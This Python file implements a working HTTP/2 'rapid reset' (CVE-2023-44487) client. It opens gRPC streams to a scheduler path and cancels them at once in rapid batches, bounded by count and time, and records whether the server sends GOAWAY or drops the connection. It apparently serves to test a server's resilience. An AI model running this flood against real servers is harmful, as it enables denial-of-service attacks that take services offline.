"""A raw HTTP/2 client that does what CVE-2023-44487 ("rapid reset") does: on one connection, open a gRPC
stream (HEADERS) and cancel it at once (RST_STREAM), as fast as it can, bounded in count and time."""

from __future__ import annotations

import select
import socket
import time

import attrs
import h2.config
import h2.connection
import h2.events
import h2.exceptions

HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/si.v1.Scheduler/UpdateNode"),
    (":authority", "korral"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
CANCEL = 8  # HTTP/2 error code CANCEL


@attrs.define
class Outcome:
    resets: int = 0  # HEADERS + RST_STREAM pairs sent
    goaway: bool = False  # the server sent GOAWAY
    closed: bool = False  # the server closed the connection
    seconds: float = 0.0


def rapid_reset(address: str, *, max_resets: int, max_seconds: float, batch: int = 100) -> Outcome:
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    outcome = Outcome()
    began = time.monotonic()
    try:
        sock.sendall(connection.data_to_send())
        while outcome.resets < max_resets and time.monotonic() - began < max_seconds:
            for _ in range(batch):
                stream_id = connection.get_next_available_stream_id()
                connection.send_headers(stream_id, HEADERS)
                connection.reset_stream(stream_id, CANCEL)
                outcome.resets += 1
            try:
                sock.sendall(connection.data_to_send())
            except OSError:
                outcome.closed = True
                break
            while select.select([sock], [], [], 0)[0]:
                try:
                    data = sock.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    outcome.closed = True
                    break
                try:
                    events = connection.receive_data(data)
                except h2.exceptions.ProtocolError:
                    events = []
                if any(isinstance(event, h2.events.ConnectionTerminated) for event in events):
                    outcome.goaway = True
                with_reply = connection.data_to_send()
                if with_reply:
                    try:
                        sock.sendall(with_reply)
                    except OSError:
                        outcome.closed = True
            if outcome.closed or outcome.goaway:
                break
    finally:
        outcome.seconds = time.monotonic() - began
        sock.close()
    return outcome
